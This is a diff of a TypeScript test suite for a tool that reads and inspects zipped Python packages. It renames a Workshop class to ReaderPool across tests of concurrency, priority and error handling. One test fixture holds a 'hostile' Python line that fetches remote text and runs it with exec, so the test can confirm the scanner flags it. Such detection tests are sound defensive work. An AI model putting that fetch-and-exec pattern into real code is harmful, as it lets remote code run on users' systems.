@@ -4,21 +4,21 @@ import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { suite, test } from 'node:test';
 import { DEFAULT_LIMITS } from '@patchbay/inspect';
-import { Workshop } from '../../src/readers/reader-pool.ts';
+import { ReaderPool } from '../../src/readers/reader-pool.ts';
 import { zip } from '../support/build.ts';
 import { temporaryFolder } from '../support/temporary-folder.ts';
 
-suite('workshop', () => {
+suite('readers', () => {
   test('more packages than processes are all read, each with its own answer', async (t) => {
-    const workshop = new Workshop();
-    t.after(() => workshop.close());
+    const readers = new ReaderPool();
+    t.after(() => readers.close());
     const folder = await temporaryFolder(t);
     const names = await Promise.all(
-      Array.from({ length: workshop.processesMax * 4 }, async (_, index) => {
+      Array.from({ length: readers.processesMax * 4 }, async (_, index) => {
         const path = join(folder, `${index}.zip`);
         const source = `class Node:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Node ${index}": Node}\n`;
         await writeFile(path, await zip({ '__init__.py': source }));
-        const { appNodes } = await workshop.extract(path);
+        const { appNodes } = await readers.extract(path);
         return appNodes.map(({ app_node_name }) => app_node_name);
       }),
     );
@@ -29,30 +29,30 @@ suite('workshop', () => {
   });
 
   test('a package whose publisher waits is inspected before those that are only to be read', async (t) => {
-    const workshop = new Workshop();
-    t.after(() => workshop.close());
+    const readers = new ReaderPool();
+    t.after(() => readers.close());
     const path = join(await temporaryFolder(t), 'package.zip');
     await writeFile(path, await zip({ '__init__.py': '' }));
     const done: string[] = [];
-    const reading = Array.from({ length: workshop.processesMax * 2 }, () =>
-      workshop.extract(path).then(() => done.push('read')),
+    const reading = Array.from({ length: readers.processesMax * 2 }, () =>
+      readers.extract(path).then(() => done.push('read')),
     );
     const published = { nodeId: 'node', version: '1.0.0' };
     const inspection = { path, limits: DEFAULT_LIMITS, published, looseVersions: false };
-    const inspecting = workshop.inspect(inspection).then(() => done.push('inspected'));
+    const inspecting = readers.inspect(inspection).then(() => done.push('inspected'));
     await Promise.all([...reading, inspecting]);
-    assert.ok(done.indexOf('inspected') <= workshop.processesMax, done.join());
+    assert.ok(done.indexOf('inspected') <= readers.processesMax, done.join());
   });
 
   test('a package of large files is read to its end', async (t) => {
-    const workshop = new Workshop();
-    t.after(() => workshop.close());
+    const readers = new ReaderPool();
+    t.after(() => readers.close());
     const path = join(await temporaryFolder(t), 'package.zip');
     const large = Array.from({ length: 40_000 }, (_, index) => `LARGE_${index} = ${index ** 3}\n`).join('');
     const hostile = `${large}import requests\nexec(requests.get("https://example.org").text)\n`;
     const bytes = await zip({ 'large.py': large, 'hostile.py': hostile, 'data.bin': large.repeat(4) });
     await writeFile(path, bytes);
-    const verdict = await workshop.check(path, hash('sha256', bytes));
+    const verdict = await readers.check(path, hash('sha256', bytes));
     assert.equal(verdict?.outcome, 'found');
     assert.deepEqual(
       verdict.findings.filter(({ severity }) => severity === 'error').map(({ file, line }) => [file, line]),
@@ -62,29 +62,29 @@ suite('workshop', () => {
 
   test('a package for which what is left idle is too little is read all the same', async (t) => {
     // No process has begun after a millisecond.
-    const workshop = new Workshop(1, { spare: 1, low: 60_000 });
-    t.after(() => workshop.close());
+    const readers = new ReaderPool(1, { spare: 1, low: 60_000 });
+    t.after(() => readers.close());
     const path = join(await temporaryFolder(t), 'package.zip');
     const bytes = await zip({ '__init__.py': '' });
     await writeFile(path, bytes);
-    assert.equal((await workshop.check(path, hash('sha256', bytes)))?.outcome, 'passed');
+    assert.equal((await readers.check(path, hash('sha256', bytes)))?.outcome, 'passed');
   });
 
   test('a task that fails fails alone, with the code of its error', async (t) => {
-    const workshop = new Workshop();
-    t.after(() => workshop.close());
+    const readers = new ReaderPool();
+    t.after(() => readers.close());
     const path = join(await temporaryFolder(t), 'package.zip');
     const bytes = await zip({ '__init__.py': '' });
-    await assert.rejects(workshop.check(path, hash('sha256', bytes)), {
+    await assert.rejects(readers.check(path, hash('sha256', bytes)), {
       code: 'ENOENT',
       message: /no such file/,
     });
     await writeFile(path, bytes);
-    assert.equal((await workshop.check(path, hash('sha256', bytes)))?.outcome, 'passed');
-    assert.equal(await workshop.check(path, hash('sha256', 'another package')), undefined);
+    assert.equal((await readers.check(path, hash('sha256', bytes)))?.outcome, 'passed');
+    assert.equal(await readers.check(path, hash('sha256', 'another package')), undefined);
     const published = { nodeId: 'node', version: '1.0.0' };
     assert.equal(
-      await workshop.inspect({ path, limits: DEFAULT_LIMITS, published, looseVersions: false }),
+      await readers.inspect({ path, limits: DEFAULT_LIMITS, published, looseVersions: false }),
       undefined,
     );
   });
